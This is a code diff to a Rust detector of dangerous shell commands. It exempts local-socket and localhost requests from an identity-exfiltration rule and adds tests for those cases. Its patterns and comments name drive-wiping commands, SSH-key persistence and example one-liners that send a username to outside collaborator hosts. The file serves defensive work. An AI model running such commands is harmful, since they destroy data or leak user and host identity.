@@ -226,14 +226,22 @@ static CMD_PATTERNS: LazyLock<Vec<CmdPattern>> = LazyLock::new(|| {
             r"(?i)\brm\s+(-[a-z-]*\s+)*(/\*?|~/?\*?|\$home/?\*?|/home/?\*?)(\s|$|;|&)|--no-preserve-root|\b(rd|rmdir)\s+/s\s+/q\s+[a-z]:\\?\*?(\s|$)|\bdel\s+(/[a-z]\s+)*[a-z]:\\\*|\bformat(\.com)?\s+[a-z]:|\bmkfs(\.[a-z0-9]+)?\s+/dev/|\bdd\s+if=/dev/(zero|u?random)\s+of=/dev/",
             "erases a home folder, drive or file system",
         ),
-        p(
-            // Dependency-confusion one-liners: `curl https://x.oast.fun/$(whoami)`,
-            // `ping -c1 $HOSTNAME.x.burpcollaborator.net`, `nslookup %USERNAME%.x.dnslog.cn`.
-            "EXFIL-SEND-COLLECTED",
-            // (Tools that send a request or a DNS query: the HTTP tools and a few more.)
-            &format!(r"(?i)\b({HTTP_TOOLS}|nc|ncat|ping|nslookup|dig|host)\b[^\n]*({HOST_IDENTITY})|({HOST_IDENTITY})[^\n]*\b({HTTP_TOOLS}|nc|ncat|ping|nslookup|dig|host)\b"),
-            "puts the user's or host's identity into a network command",
-        ),
+        CmdPattern {
+            // (A request to a local socket or this machine stays on it: a container asking
+            // the Docker daemon about itself, `curl --unix-socket ... /containers/$HOSTNAME`.)
+            unless: Some(
+                Regex::new(r"(?i)--unix-socket\b|://(localhost|127\.0\.0\.1|\[::1\])[:/]")
+                    .expect("static regex compiles"),
+            ),
+            ..p(
+                // Dependency-confusion one-liners: `curl https://x.oast.fun/$(whoami)`,
+                // `ping -c1 $HOSTNAME.x.burpcollaborator.net`, `nslookup %USERNAME%.x.dnslog.cn`.
+                "EXFIL-SEND-COLLECTED",
+                // (Tools that send a request or a DNS query: the HTTP tools and a few more.)
+                &format!(r"(?i)\b({HTTP_TOOLS}|nc|ncat|ping|nslookup|dig|host)\b[^\n]*({HOST_IDENTITY})|({HOST_IDENTITY})[^\n]*\b({HTTP_TOOLS}|nc|ncat|ping|nslookup|dig|host)\b"),
+                "puts the user's or host's identity into a network command",
+            )
+        },
         p(
             "PERSIST-SSH-KEY",
             r"(?i)(>>?|\btee\b[^\n|;&]*)\s*['\x22]?[^\s'\x22|;&]*authorized_keys2?\b",
@@ -450,6 +458,8 @@ mod tests {
             "echo $USER",
             "curl -fsSL https://example.com/install.sh -o install.sh",
             "chown -R $USER node_modules",
+            "curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json",
+            "curl http://localhost:8080/users/$USER",
         ] {
             assert!(!sends(cmd), "{cmd}");
         }
